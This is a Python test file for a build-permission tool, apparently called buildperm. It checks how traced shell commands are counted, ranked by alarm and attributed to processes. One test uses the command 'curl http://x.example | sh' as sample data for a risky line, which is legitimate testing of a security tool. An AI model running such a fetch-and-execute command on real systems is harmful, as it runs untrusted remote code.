"""What lies behind a proposal."""

from __future__ import annotations

from typing import TYPE_CHECKING

from buildperm.policy.access import Access, Outcome
from buildperm.policy.kinds import Kind
from buildperm.policy.proposal import Choice, Proposal, Risk
from buildperm.presentation.proposal_evidence import proposal_evidence, run_evidence
from buildperm.tracer.recording.event import Executed, FileOpened, OpenMode, RecordedProcess
from tests.presentation.trace_recordings import made_run

if TYPE_CHECKING:
    from buildperm.presentation.proposal_evidence import RunEvidence
    from buildperm.tracer.recording.event import Event

SCRIPT = RecordedProcess(7, 0, b"/out/build", (b"/out/build",), 0, 9, 0)


def asked(kind: Kind, target: str, *commands: tuple[str, int]) -> Proposal:
    """Return a proposal about one access."""
    access = Access(kind, target, Outcome.DONE, 1, 0, 0, (("build script",),), commands=commands)
    return Proposal(
        "0" * 12, "gen", "1", "title", (Choice("it", ()),), Risk.LOW, ("note",), (access,)
    )


def ran(*argv: bytes, times: int = 1, refused: bool = False) -> Executed:
    """Return the event of a shell that was started by the script."""
    return Executed(1, 7, b"/bin/sh", b"/bin/sh", argv, 13 if refused else 0, refused, times)


def evidence(*events: Event, processes: tuple[RecordedProcess, ...] = ()) -> RunEvidence:
    """Return what a recording with these events holds about a proposal about all of them."""
    return run_evidence(made_run((SCRIPT, *processes), events), events)


def test_equal_command_lines_of_several_runs_are_counted_together() -> None:
    one = evidence(ran(b"sh", b"-c", b"true", times=2), ran(b"sh", b"-c", b"false"))
    two = evidence(ran(b"sh", b"-c", b"true"))

    found = proposal_evidence(asked(Kind.EXEC, "sh"), [one, two])

    assert [(each.line, each.times) for each in found.commands] == [
        ("sh -c true", 3), ("sh -c false", 1),
    ]  # fmt: skip


def test_the_most_alarming_command_line_comes_first() -> None:
    run = evidence(
        ran(b"sh", b"-c", b"true", times=500),
        ran(b"sh", b"-c", b"curl http://x.example | sh"),
        ran(b"sh", b"-c", b"false", refused=True),
    )

    found = proposal_evidence(asked(Kind.EXEC, "sh"), [run])

    assert [each.line for each in found.commands] == [
        "sh -c false", "sh -c 'curl http://x.example | sh'", "sh -c true",
    ]  # fmt: skip
    assert [each.outcome for each in found.commands] == [
        "refused by buildperm (EACCES)", "", "",
    ]  # fmt: skip


def test_a_program_that_ran_is_marked_where_it_ran_and_one_that_did_not_where_it_was_called() -> (
    None
):
    shell = RecordedProcess(8, 7, b"/bin/sh", (b"sh", b"-c", b"true"), 1, 2, 0)

    assert evidence(ran(b"sh", b"-c", b"true"), processes=(shell,)).concerned == {8}
    assert evidence(ran(b"sh", b"-c", b"no", refused=True), processes=(shell,)).concerned == {7}


def test_what_did_something_else_is_named_by_its_command_line() -> None:
    tool = RecordedProcess(8, 7, b"/bin/tool", (b"tool", b"a b"), 1, 2, 0)
    events = [
        FileOpened(1, pid, b"/srv/x", OpenMode.READ, False, 0, False, False) for pid in (7, 8)
    ]

    found = proposal_evidence(asked(Kind.READ, "/srv/x"), [evidence(*events, processes=(tool,))])

    assert {each.line for each in found.commands} == {"build script", "tool 'a b'"}
    assert not found.is_run


def test_an_event_of_two_accesses_is_there_once() -> None:
    event = FileOpened(1, 7, b"/srv/x", OpenMode.READ_WRITE, False, 0, False, False)

    assert run_evidence(made_run([SCRIPT], [event]), [event, event]).events == (event,)


def test_without_recordings_there_is_what_the_proposal_holds() -> None:
    asks = asked(Kind.EXEC, "sh", ("sh -c 'echo %24HOME'", 2))

    found = proposal_evidence(asks, (), missing="recorded elsewhere")

    assert [(each.line, each.times) for each in found.commands] == [("sh -c 'echo $HOME'", 2)]
    assert found.missing == "recorded elsewhere"
